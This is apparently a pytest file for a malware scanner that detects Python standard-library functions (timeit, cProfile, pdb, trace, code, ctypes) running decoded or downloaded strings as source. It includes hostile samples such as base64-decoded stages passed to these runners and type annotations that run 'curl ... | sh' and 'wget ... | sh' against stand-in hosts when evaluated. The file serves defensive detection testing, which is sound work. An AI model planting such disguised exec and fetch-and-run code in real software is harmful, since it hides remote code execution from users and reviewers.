"""Standard-library functions that run a string as Python source (``_scan._code_runners``)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind16 (tune b16-ds-timeit-stmt, -cprofile-run, -code-runsource, -pyrun-simplestring):
#: a decoded stage run by a function that is exec under another name.
RUN_DECODED = [
    "import timeit, base64\ntimeit.timeit(stmt=base64.b64decode(X).decode(), number=1)\n",
    "import timeit, base64\ntimeit.Timer(base64.b64decode(X).decode()).timeit(1)\n",
    "import cProfile, zlib\ncProfile.run(zlib.decompress(X).decode(), '/dev/null')\n",
    "import profile, base64\nprofile.runctx(base64.b64decode(X), {}, {})\n",
    "import pdb, codecs\npdb.run(codecs.decode(X, 'rot13'))\n",
    "import code\ncode.InteractiveInterpreter().runsource(bytes.fromhex(X).decode(), 'x')\n",
    "import code, base64\nii = code.InteractiveConsole()\nii.push(base64.b64decode(X).decode())\n",
    "import ctypes, lzma\nctypes.pythonapi.PyRun_SimpleString(lzma.decompress(X))\n",
    # blind17 (tune b17-ds-trace-runctx): a tracer's, a debugger's, a profiler's run
    "import trace, codecs\nt = trace.Trace(count=0, trace=0)\n"
    "t.runctx(codecs.decode(X, 'hex').decode(), {}, {})\n",
    "import trace, base64\ntrace.Trace(trace=0).run(base64.b64decode(X).decode())\n",
    "import bdb, zlib\nbdb.Bdb().run(zlib.decompress(X).decode())\n",
    "import pdb, base64\ndbg = pdb.Pdb()\ndbg.runeval(base64.b64decode(X).decode())\n",
    "import cProfile, base64\npr = cProfile.Profile()\npr.run(base64.b64decode(X).decode())\n",
]


@pytest.mark.parametrize("source", RUN_DECODED)
def test_decoded_source_run_by_exec_under_another_name_is_run_decoded_data(source: str) -> None:
    assert "CPL-THR-001" in danger(source)


@pytest.mark.parametrize("source", RUN_DECODED)
def test_a_runner_of_decoded_source_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-001")


def test_a_downloaded_stage_given_to_timeit_is_run_downloaded_data() -> None:
    source = (
        "import timeit, urllib.request\n"
        "timeit.timeit(urllib.request.urlopen('https://x.example/s').read().decode(), number=1)\n"
    )
    assert "CPL-THR-002" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # what the runners are for: a benchmark, a profile, a REPL of the user's lines
        "import timeit\nprint(timeit.timeit('sum(range(100))', number=1000))\n",
        "import timeit\ntimeit.timeit(stmt=lambda: sorted(DATA), number=10)\n",
        "import cProfile\ncProfile.run('main()', 'out.prof')\n",
        "import code\nconsole = code.InteractiveConsole(locals())\n"
        "while True:\n    console.push(input('>>> '))\n",
        "import code, base64\ncode.InteractiveConsole().push(PROMPT)\n",
        # a decoded value given to a method of the same name on something else
        "import base64\nqueue.push(base64.b64decode(X))\n",
        # a tracer and a profiler given the program's own entry point; decoded data given
        # to the run method of something that is no runner (blind17)
        "import trace\ntracer = trace.Trace(count=1, trace=0)\ntracer.run('main()')\n",
        "import cProfile\npr = cProfile.Profile()\npr.runctx('app.serve()', globals(), locals())\n",
        "import base64, asyncio\nloop.run(base64.b64decode(X))\njob.runctx(base64.b64decode(X))\n",
    ],
)
def test_a_runner_given_no_decoded_or_downloaded_source_is_not_a_threat(source: str) -> None:
    assert not danger(source)


#: blind16 (tune b16-cn-type-hints-eval): a string annotation is evaluated by the readers
#: of annotations, so code in one runs when they are asked for the hints.
EVALUATED_ANNOTATIONS = [
    "import typing\n"
    "def probe(x: \"__import__('os').system('curl -s https://t.example/p | sh') or int\"):\n"
    "    pass\ntyping.get_type_hints(probe)\n",
    "import inspect\nclass C:\n"
    "    a: \"__import__('os').system('wget -qO- http://192.0.2.4/x | sh')\"\n"
    "inspect.get_annotations(C, eval_str=True)\n",
]


@pytest.mark.parametrize("source", EVALUATED_ANNOTATIONS)
def test_code_in_an_annotation_a_reader_evaluates_is_run(source: str) -> None:
    assert {"CPL-THR-015", "CPL-THR-016"} <= danger(source)


@pytest.mark.parametrize("source", EVALUATED_ANNOTATIONS)
def test_code_in_an_evaluated_annotation_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-016")


@pytest.mark.parametrize(
    "source",
    [
        # forward references: what string annotations are for
        "import typing\nclass Node:\n    parent: 'Node | None'\n"
        "    children: 'list[Node]'\ntyping.get_type_hints(Node)\n",
        "import typing\ndef f(x: 'typing.Optional[int]') -> 'str':\n    return ''\n"
        "HINTS = typing.get_type_hints(f)\n",
        # an annotation that names a call but is never evaluated by the code
        "def g(x: \"__import__('os').system('id')\"):\n    pass\n",
    ],
)
def test_annotations_that_are_types_or_never_evaluated_stay_clean(source: str) -> None:
    assert not danger(source) & {"CPL-THR-015", "CPL-THR-016"}
